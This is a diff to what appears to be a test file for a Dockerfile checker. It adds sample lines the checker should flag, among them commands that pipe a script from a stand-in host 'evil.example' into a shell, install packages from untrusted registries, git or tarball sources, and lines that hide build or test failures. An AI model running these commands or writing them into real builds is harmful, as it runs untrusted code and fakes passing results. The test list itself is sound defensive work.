@@ -140,6 +140,9 @@ def test_the_folders_above_a_service_make_no_test_of_it(folder: str) -> None:
 LINES = {
     "download": [
         "RUN source <(cat x)",
+        *("RUN npm exec evil", "RUN npm x evil", "RUN npm init evil", "RUN yarn dlx evil"),
+        *("RUN pnpm dlx evil", "RUN go install evil.example/x@latest", "RUN git -C /x clone y"),
+        *("RUN go run evil.example/x@latest", "RUN ls && uv tool run evil"),
         *(
             "RUN curl -s https://evil.example/x | sh",
             "RUN wget -qO- http://evil.example/x|bash -s",
@@ -200,6 +203,9 @@ LINES = {
     ],
     "index": [
         "RUN yarn add --registry evil.example x",
+        *("RUN pip install -i evil.example x", "RUN pip install -f evil.example/x y"),
+        "RUN echo deb evil.example main > /etc/apt/sources.list",
+        "RUN add-apt-repository ppa:evil/x",
         "RUN echo registry=evil.example > .x",
         "RUN pip install --proxy evil.example x",
         "RUN apk add -X evil.example x",
@@ -215,6 +221,14 @@ LINES = {
         *("ENV UV_INDEX_URL=evil.example", "RUN pip install --index\\\n-url evil.example x"),
     ],
     "source": [
+        *(
+            "RUN npm install evil/pkg",
+            "RUN npm i a/b#c",
+            "RUN npm i gitlab:a/b",
+            "RUN npm i gist:a",
+        ),
+        *("RUN yarn add bitbucket:a/b", "RUN npm install e.x/x.tgz", "RUN npm i x@npm:evil"),
+        "RUN pip install evil.example/x.zip",
         "RUN pip install git@evil.example:a/b",
         "RUN pip install git://evil.example",
         "RUN pip install svn+x",
@@ -270,6 +284,7 @@ LINES = {
     ],
     "ignored-failure": [
         "RUN set +o errexit",
+        *("RUN pip install --dry-run x", "RUN pip install -r /dev/null"),
         "RUN ls; :",
         "RUN ruff --exit-zero",
         "RUN jest --passWithNoTests",
@@ -297,6 +312,7 @@ LINES = {
     "inline-code": [
         "COPY <<EOF /app/yaml.py\nsafe_load = print\nEOF",
         "RUN perl -e 'x'",
+        *("RUN python3 -X utf8 -c 'x'", "RUN python3 -W ignore -Ic 'x'"),
         "RUN ruby -e 'x'",
         "RUN php -r 'x'",
         "RUN python -c 'import os'",
